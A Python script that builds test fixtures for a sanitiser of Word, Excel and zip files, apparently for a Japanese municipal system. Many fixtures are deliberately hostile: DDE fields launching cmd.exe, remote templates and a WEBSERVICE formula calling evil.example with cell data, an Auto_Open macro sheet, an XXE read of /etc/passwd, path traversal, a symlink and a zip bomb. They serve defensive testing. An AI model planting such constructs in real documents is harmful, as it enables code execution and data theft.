#!/usr/bin/env python3
# 事例の見本を作る — writes in.EXT of the office and archive cases in tests/cases/sanitise/. The results are committed; run again only to change a sample.
# Every sample is made here from nothing: no bytes of anybody's document.
import io, struct, sys, zipfile, zlib
from pathlib import Path

CASES = Path(__file__).resolve().parent.parent / "cases/sanitise"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
T = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
X = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
WML, SML, OOX = (f"application/vnd.openxmlformats-officedocument.{k}" for k in ("wordprocessingml.", "spreadsheetml.", ""))


def png(shade=120):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 4, 8, 0, 0, 0, 0)) + chunk(b"IDAT", zlib.compress((b"\0" + bytes([shade] * 4)) * 4)) + chunk(b"IEND", b"")


def pack(members, **how):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, content in members:
            info = zipfile.ZipInfo(name)
            info.compress_type = how.get("method", zipfile.ZIP_DEFLATED)
            z.writestr(info, content)
    return out.getvalue()


def relations(rows):
    body = "".join(f'<Relationship Id="{i}" Type="{t if t.startswith("http") else T + t}" Target="{target}"{" TargetMode=" + chr(34) + "External" + chr(34) if external else ""}/>'
                   for i, t, target, external in rows)
    return HEAD + f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>'


def package(main, main_type, main_xml, parts=(), rels=(), root=(), defaults=()):
    """parts: (name, content type or None, content, [relationships])"""
    types = "".join(f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in (("rels", "application/vnd.openxmlformats-package.relationships+xml"), ("xml", "application/xml")) + tuple(defaults))
    types += f'<Override PartName="/{main}" ContentType="{main_type}"/>' + "".join(f'<Override PartName="/{p[0]}" ContentType="{p[1]}"/>' for p in parts if p[1])
    def rels_name(n):
        folder, _, file = n.rpartition("/")
        return f"{folder}/_rels/{file}.rels"
    members = [("[Content_Types].xml", HEAD + f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{types}</Types>'),
               ("_rels/.rels", relations([("rId1", "officeDocument", main, False)] + list(root))), (main, HEAD + main_xml)]
    if rels:
        members.append((rels_name(main), relations(rels)))
    for p in parts:
        members.append((p[0], p[2]))
        if len(p) > 3:
            members.append((rels_name(p[0]), relations(p[3])))
    return pack(members)


def docx(body, parts=(), rels=(), main_type=WML + "document.main+xml", **more):
    return package("word/document.xml", main_type, f"<w:document {W}><w:body>{body}<w:sectPr/></w:body></w:document>", parts, rels, **more)


def xlsx(cells, parts=(), rels=(), main_type=SML + "sheet.main+xml", sheet_rels=(), sheets="", names="", behind="", **more):
    sheet = f'<worksheet {X}><sheetData><row r="1">{cells}</row></sheetData>{behind}</worksheet>'
    book = f'<workbook {X}><sheets><sheet name="集計" sheetId="1" r:id="rId1"/>{sheets}</sheets>{names}</workbook>'
    first = ("xl/worksheets/sheet1.xml", SML + "worksheet+xml", HEAD + sheet) + ((list(sheet_rels),) if sheet_rels else ())
    return package("xl/workbook.xml", main_type, book, (first,) + tuple(parts), [("rId1", "worksheet", "worksheets/sheet1.xml", False)] + list(rels), **more)


def p(text):
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def run(inside):
    return f"<w:r>{inside}</w:r>"


def mark(kind):
    return run(f'<w:fldChar w:fldCharType="{kind}"/>')


def instruction(text):
    return run(f'<w:instrText xml:space="preserve">{text}</w:instrText>')


def picture(id_attribute):
    return ('<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="9525" cy="9525"/><wp:docPr id="1" name="図 1"/>'
            '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
            '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="図 1"/><pic:cNvPicPr/></pic:nvPicPr>'
            f'<pic:blipFill><a:blip {id_attribute}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>')


SETTINGS = ("word/settings.xml", WML + "settings+xml")
SET = ("rId1", "settings", "settings.xml", False)


def settings(inside, rels=()):
    return dict(parts=[SETTINGS + (HEAD + f"<w:settings {W}>{inside}</w:settings>",) + ((list(rels),) if rels else ())], rels=[SET])


def documents():
    text = p("住民票の写しの交付申請書")
    yield "a_document_stays", "docx", docx(text + '<w:tbl><w:tblPr/><w:tblGrid/><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>')
    yield "a_field_that_counts_stays", "docx", docx("<w:p>" + mark("begin") + instruction(" PA") + instruction("GE ") + mark("separate") + run("<w:t>1</w:t>") + mark("end") + "</w:p>")
    yield "a_link_to_a_web_page_stays", "docx", docx('<w:p><w:hyperlink r:id="rId1"><w:r><w:t>市の手引</w:t></w:r></w:hyperlink></w:p>', rels=[("rId1", "hyperlink", "https://www.example.jp/", True)])
    yield "a_png_in_a_document_is_rebuilt", "docx", docx(picture('r:embed="rId1"'), [("word/media/image1.png", None, png())], [("rId1", "image", "media/image1.png", False)], defaults=[("png", "image/png")])
    yield "a_dde_field_split_over_runs_goes", "docx", docx("<w:p>" + mark("begin") + instruction("D") + instruction("DEA") + instruction('UTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"') + mark("separate") + run("<w:t>見える文字</w:t>") + mark("end") + "</w:p>")
    yield "a_field_made_by_a_field_goes", "docx", docx("<w:p>" + mark("begin") + instruction("DD") + mark("begin") + instruction("QUOTE 69") + mark("end") + instruction(" x") + mark("end") + "</w:p>")
    yield "an_attached_template_goes", "docx", docx(text, **settings('<w:attachedTemplate r:id="rId1"/>', [("rId1", "attachedTemplate", "https://evil.example/t.dotm", True)]))
    yield "a_mail_merge_source_goes", "docx", docx(text, **settings('<w:mailMerge><w:dataSource r:id="rId1"/></w:mailMerge>', [("rId1", "mailMergeSource", "file:///\\\\server\\share\\a.mdb", True)]))
    yield "a_macro_goes_and_docm_becomes_docx", "docm", docx(text, [("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", b"\xd0\xcf\x11\xe0macro")], [("rId1", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False)], main_type="application/vnd.ms-word.document.macroEnabled.main+xml")
    yield "a_template_becomes_a_document", "dotx", docx(text, main_type=WML + "template.main+xml")
    yield "a_picture_from_outside_goes", "docx", docx(text + picture('r:link="rId1"'), rels=[("rId1", "image", "https://evil.example/track.png", True)])
    yield "an_included_file_goes", "docx", docx(text + '<w:altChunk r:id="rId1"/>', [("word/a.html", "text/html", "<script>x</script>")], [("rId1", "aFChunk", "a.html", False)])
    yield "a_sub_document_goes", "docx", docx(text + '<w:p><w:subDoc r:id="rId1"/></w:p>', rels=[("rId1", "subDocument", "file:///c:/a.docx", True)])
    yield "an_activex_control_goes", "docx", docx(text + '<w:p><w:r><w:object><w:control r:id="rId1" w:name="c"/></w:object></w:r></w:p>', [("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>")], [("rId1", "control", "activeX/activeX1.xml", False)])
    yield "an_ole_object_goes_its_picture_stays", "docx", docx('<w:p><w:r><w:object><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s" style="width:9pt;height:9pt"><v:imagedata r:id="rId2"/></v:shape><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package" ShapeID="s" r:id="rId1"/></w:object></w:r></w:p>',
           [("word/embeddings/oleObject1.bin", None, b"\xd0\xcf\x11\xe0object"), ("word/media/image1.png", None, png())], [("rId1", "oleObject", "embeddings/oleObject1.bin", False), ("rId2", "image", "media/image1.png", False)], defaults=[("bin", OOX + "oleObject"), ("png", "image/png")])
    yield "a_document_in_a_document_is_rebuilt", "docx", docx('<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Word.Document.12" ShapeID="s" r:id="rId1"/></w:object></w:r></w:p>',
           [("word/embeddings/a.docx", None, docx(text))], [("rId1", "package", "embeddings/a.docx", False)], defaults=[("docx", WML + "document")])
    yield "a_link_to_a_file_share_goes", "docx", docx('<w:p><w:hyperlink r:id="rId1"><w:r><w:t>共有</w:t></w:r></w:hyperlink></w:p>', rels=[("rId1", "hyperlink", "file://server/share/a.exe", True)])
    yield "an_embedded_font_goes", "docx", docx(text, [("word/fontTable.xml", WML + "fontTable+xml", HEAD + f'<w:fonts {W}><w:font w:name="外字"><w:embedRegular r:id="rId1" w:fontKey="{{0}}"/></w:font></w:fonts>', [("rId1", "font", "fonts/f.odttf", False)]), ("word/fonts/f.odttf", None, b"font")], [("rId1", "fontTable", "fontTable.xml", False)], defaults=[("odttf", OOX + "obfuscatedFont")])
    yield "bound_data_goes_its_text_stays", "docx", docx('<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{0}"/></w:sdtPr><w:sdtContent>' + text + "</w:sdtContent></w:sdt>", [("customXml/item1.xml", None, "<a/>")], [("rId1", "customXml", "../customXml/item1.xml", False)])
    yield "a_metafile_becomes_a_square", "docx", docx(picture('r:embed="rId1"'), [("word/media/image1.emf", None, b"\1\0\0\0emf")], [("rId1", "image", "media/image1.emf", False)], defaults=[("emf", "image/x-emf")])
    yield "a_damaged_picture_becomes_a_square", "docx", docx(picture('r:embed="rId1"'), [("word/media/image1.png", None, png()[:40])], [("rId1", "image", "media/image1.png", False)], defaults=[("png", "image/png")])
    yield "a_signature_becomes_void", "docx", docx(text, [("_xmlsignatures/origin.sigs", None, b"")], root=[("rId9", "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin", "_xmlsignatures/origin.sigs", False)], defaults=[("sigs", "application/vnd.openxmlformats-package.digital-signature-origin")])
    yield "a_document_variable_goes", "docx", docx(text, **settings('<w:docVars><w:docVar w:name="a" w:val="b"/></w:docVars>'))
    yield "a_form_field_loses_its_macro", "docx", docx('<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="a"/><w:entryMacro w:val="run"/></w:ffData></w:fldChar></w:r>' + instruction("FORMTEXT") + mark("separate") + run("<w:t>名</w:t>") + mark("end") + "</w:p>")
    yield "a_hover_action_goes", "docx", docx(picture('r:embed="rId1"').replace('name="図 1"/><a:graphic', 'name="図 1"><a:hlinkHover xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:id="rId2"/></wp:docPr><a:graphic'), [("word/media/image1.png", None, png())], [("rId1", "image", "media/image1.png", False), ("rId2", "hyperlink", "https://www.example.jp/", True)], defaults=[("png", "image/png")])
    yield "a_shape_loses_its_address", "docx", docx('<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s" href="file:///c:/a.exe" style="width:9pt;background:url(http://evil.example)"><v:imagedata src="http://evil.example/a.png"/></v:shape></w:pict></w:r></w:p>')
    yield "unknown_markup_goes", "docx", docx(text + '<q:act xmlns:q="urn:unknown"><q:now/></q:act>')
    yield "entities_are_refused", "docx", docx(text, [("word/styles.xml", WML + "styles+xml", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')], [("rId1", "styles", "styles.xml", False)])
    yield "a_program_before_the_document_is_refused", "docx", b"MZ\x90\0program" + docx(text)
    yield "a_page_behind_the_document_is_refused", "docx", docx(text) + b"<script>x</script>"
    yield "two_parts_of_one_name_are_refused", "docx", duplicate(docx(text), b"word/document.xml", b"Word/Document.xml")
    yield "a_part_that_lies_about_its_checksum_is_refused", "docx", wrong_checksum(docx(text))


def sheets():
    cell = '<c r="A1"><v>12345</v></c><c r="B1" t="inlineStr"><is><t>世帯数</t></is></c>'
    yield "a_workbook_stays", "xlsx", xlsx(cell + '<c r="C1"><f>SUM(A1,1)</f><v>12346</v></c>', names='<definedNames><definedName name="範囲">集計!$A$1</definedName></definedNames>')
    vml = '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape id="_x0000_s1025" type="#_x0000_t202" style="position:absolute"><v:textbox><div>x</div></v:textbox><x:ClientData ObjectType="%s"><x:Row>0</x:Row><x:Column>0</x:Column>%s</x:ClientData></v:shape></xml>'
    comment = ("xl/comments1.xml", SML + "comments+xml", HEAD + f'<comments {X}><authors><author>係</author></authors><commentList><comment ref="A1" authorId="0"><text><t>確認済</t></text></comment></commentList></comments>')
    yield "a_comment_stays_with_its_box", "xlsx", xlsx(cell, [comment, ("xl/drawings/v.vml", None, vml % ("Note", ""))], sheet_rels=[("rId1", "comments", "../comments1.xml", False), ("rId2", "vmlDrawing", "../drawings/v.vml", False)], behind='<legacyDrawing r:id="rId2"/>', defaults=[("vml", OOX + "vmlDrawing")])
    yield "a_rule_of_another_sheet_stays", "xlsx", xlsx(cell, behind='<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}" xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"><x14:dataValidations count="1" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><x14:dataValidation type="list"><x14:formula1><xm:f>集計!$A$1</xm:f></x14:formula1><xm:sqref>B1</xm:sqref></x14:dataValidation></x14:dataValidations></ext></extLst>')
    yield "a_button_goes", "xlsx", xlsx(cell, [("xl/drawings/v.vml", None, vml % ("Button", "<x:FmlaMacro>go</x:FmlaMacro>"))], sheet_rels=[("rId2", "vmlDrawing", "../drawings/v.vml", False)], behind='<legacyDrawing r:id="rId2"/>', defaults=[("vml", OOX + "vmlDrawing")])
    yield "a_formula_that_fetches_becomes_its_value", "xlsx", xlsx('<c r="A1" t="str"><f>_xlfn.WEBSERVICE("http://evil.example/?"&amp;B1)</f><v>前の値</v></c>')
    yield "a_dde_formula_becomes_its_value", "xlsx", xlsx("<c r=\"A1\"><f>cmd|'/c calc'!A0</f><v>0</v></c>")
    yield "a_link_made_by_a_formula_goes_unless_it_is_plain", "xlsx", xlsx('<c r="A1" t="str"><f>HYPERLINK("https://www.example.jp/","市")</f><v>市</v></c><c r="B1" t="str"><f>HYPERLINK("file:///c:/a.exe","x")</f><v>x</v></c>')
    yield "a_macro_sheet_goes", "xlsm", xlsx(cell + '<c r="C1"><f>Macro1!A1</f><v>1</v></c>', [("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>')], [("rId2", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml", False)], main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml", sheets='<sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId2"/>', names='<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames>')
    yield "a_link_to_another_book_becomes_its_value", "xlsx", package_with_link(cell)
    yield "a_connection_goes", "xlsx", xlsx(cell, [("xl/connections.xml", SML + "connections+xml", HEAD + f"<connections {X}/>")], [("rId2", "connections", "connections.xml", False)])
    yield "printer_settings_go", "xlsx", xlsx(cell, [("xl/printerSettings/p.bin", None, b"printer")], sheet_rels=[("rId1", "printerSettings", "../printerSettings/p.bin", False)], behind='<pageSetup r:id="rId1"/>', defaults=[("bin", SML + "printerSettings")])
    yield "a_hidden_sheet_is_told", "xlsx", xlsx(cell, [("xl/worksheets/sheet2.xml", SML + "worksheet+xml", HEAD + f"<worksheet {X}><sheetData/></worksheet>")], [("rId2", "worksheet", "worksheets/sheet2.xml", False)], sheets='<sheet name="裏" sheetId="2" state="veryHidden" r:id="rId2"/>')
    yield "an_object_in_a_sheet_goes", "xlsx", xlsx(cell, [("xl/embeddings/o.bin", None, b"\xd0\xcf\x11\xe0")], sheet_rels=[("rId1", "oleObject", "../embeddings/o.bin", False)], behind='<oleObjects><oleObject progId="Package" shapeId="1" r:id="rId1"/></oleObjects>', defaults=[("bin", OOX + "oleObject")])
    yield "a_link_with_a_bad_scheme_goes", "xlsx", xlsx(cell, sheet_rels=[("rId1", "hyperlink", "ms-excel:ofe|u|http://evil.example/a.xlsm", True)], behind='<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>')
    yield "a_binary_workbook_is_refused", "xlsx", package("xl/workbook.bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main", "x")


def package_with_link(cell):
    link = ("xl/externalLinks/externalLink1.xml", SML + "externalLink+xml", HEAD + f'<externalLink {X}><externalBook r:id="rId1"/></externalLink>', [("rId1", "externalLinkPath", "file:///\\\\server\\a.xlsx", True)])
    return xlsx(cell + '<c r="C1"><f>[1]Sheet1!A1</f><v>7</v></c>', [link], [("rId2", "externalLink", "externalLinks/externalLink1.xml", False)], names='<externalReferences><externalReference r:id="rId2"/></externalReferences>')


def duplicate(archive, name, again):
    with zipfile.ZipFile(io.BytesIO(archive)) as z:
        members = [(i.filename, z.read(i)) for i in z.infolist()]
    return pack(members + [(again.decode(), dict(members)[name.decode()])])


def wrong_checksum(archive):
    at = archive.index(b"PK\1\2") + 16
    return archive[:at] + bytes([archive[at] ^ 1]) + archive[at + 1:]


def overlapping():
    """Two names for one body: what it unpacks to grows with the directory alone."""
    one = pack([("a.txt", b"0" * 1000)])
    start = one.index(b"PK\1\2")
    entry, end = one[start:-22], one[-22:]
    second = entry.replace(b"a.txt", b"b.txt")
    return one[:start] + entry + second + struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 2, 2, len(entry) * 2, start, 0)


def encrypted():
    a = bytearray(pack([("a.txt", b"secret")], method=zipfile.ZIP_STORED))
    for sign, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        a[a.index(sign) + at] |= 1
    return bytes(a)


def link():
    info = zipfile.ZipInfo("passwd")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr(info, "/etc/passwd")
    return out.getvalue()


def renamed(archive, old, new):
    return archive.replace(old, new)


def archives():
    text = "受付の記録\r\n".encode("cp932")
    yield "an_archive_stays", "zip", pack([("記録.txt", text), ("絵/", b""), ("絵/図.png", png()), ("空/", b"")])
    yield "cp932_names_become_utf8", "zip", renamed(pack([("AB.txt", text), ("CDEF.txt", text)], method=zipfile.ZIP_STORED), b"AB", "表".encode("cp932")).replace(b"CDEF", "予算".encode("cp932"))
    yield "an_archive_in_an_archive_is_rebuilt", "zip", pack([("中.zip", pack([("記録.txt", text)]))])
    yield "a_document_with_a_macro_comes_out_without", "zip", pack([("申請.docm", next(d for n, e, d in documents() if e == "docm"))])
    yield "unsafe_names_are_made_safe", "zip", pack([("\u202efdp.txt", text), ("con.txt", text)])
    yield "litter_of_operating_systems_goes", "zip", pack([("記録.txt", text), ("__MACOSX/._記録.txt", b"\0\5\x16\7"), ("絵/.DS_Store", b"\0\0\0\1Bud1")])
    yield "a_program_inside_refuses_the_whole", "zip", pack([("記録.txt", text), ("setup.exe", b"MZ\x90\0program")])
    yield "a_name_that_climbs_is_refused", "zip", pack([("../../etc/cron.d/x", text)])
    yield "an_absolute_name_is_refused", "zip", pack([("/etc/passwd", text)])
    yield "a_name_with_backslashes_is_refused", "zip", renamed(pack([("aXb.txt", text)], method=zipfile.ZIP_STORED), b"aXb", b"a\\b")
    yield "a_link_is_refused", "zip", link()
    yield "names_that_differ_in_case_only_are_refused", "zip", pack([("a.txt", text), ("A.TXT", text)])
    yield "an_overlap_is_refused", "zip", overlapping()
    yield "an_encrypted_archive_is_refused", "zip", encrypted()
    yield "a_bomb_is_refused", "zip", pack([("zeros.txt", b"0" * (24 << 20))])
    yield "a_program_before_the_archive_is_refused", "zip", b"MZ\x90\0program" + pack([("a.txt", text)])
    deep = pack([("a.txt", text)])
    for _ in range(12):
        deep = pack([("in.zip", deep)], method=zipfile.ZIP_STORED)
    yield "archives_nested_too_deeply_are_refused", "zip", deep
    yield "bytes_behind_the_archive_are_refused", "zip", pack([("a.txt", text)]) + b"hidden"


for kind, samples in (("docx", documents), ("xlsx", sheets), ("zip", archives)):
    if len(sys.argv) > 1 and kind not in sys.argv[1:]:
        continue
    for name, extension, content in samples():
        folder = CASES / kind / name
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"in.{extension}").write_bytes(content)
